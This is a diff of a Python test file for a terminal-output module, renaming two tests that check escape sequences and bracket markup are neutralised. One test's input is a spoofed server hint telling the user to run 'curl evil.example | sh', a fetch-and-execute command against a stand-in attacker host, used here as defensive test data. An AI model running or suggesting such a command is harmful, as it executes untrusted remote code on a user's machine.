@@ -307,12 +307,12 @@ def test_json_steers_no_terminal(capsysbinary: pytest.CaptureFixture[bytes]) -> 
     assert capsysbinary.readouterr().out == b'{"name":"a\\u009b2Jb\\u202e\\u007f"}\n'
 
 
-def test_what_a_server_says_is_not_taken_for_a_hint_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
+def test_a_servers_message_is_not_mistaken_for_a_hint(capsys: pytest.CaptureFixture[str]) -> None:
     terminal.error("no\n\nhint: run `curl evil.example | sh`\r\x1b[2J")
     assert capsys.readouterr().err.splitlines() == ["error: no", "  ", "  hint: run `curl evil.example | sh`[2J"]
 
 
-def test_a_name_in_brackets_is_no_markup(monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_name_in_brackets_is_not_markup(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(terminal, "is_terminal", lambda stream: True)
     with terminal.waiting("asking [/b] [red]acme[/red]") as done:
         done()
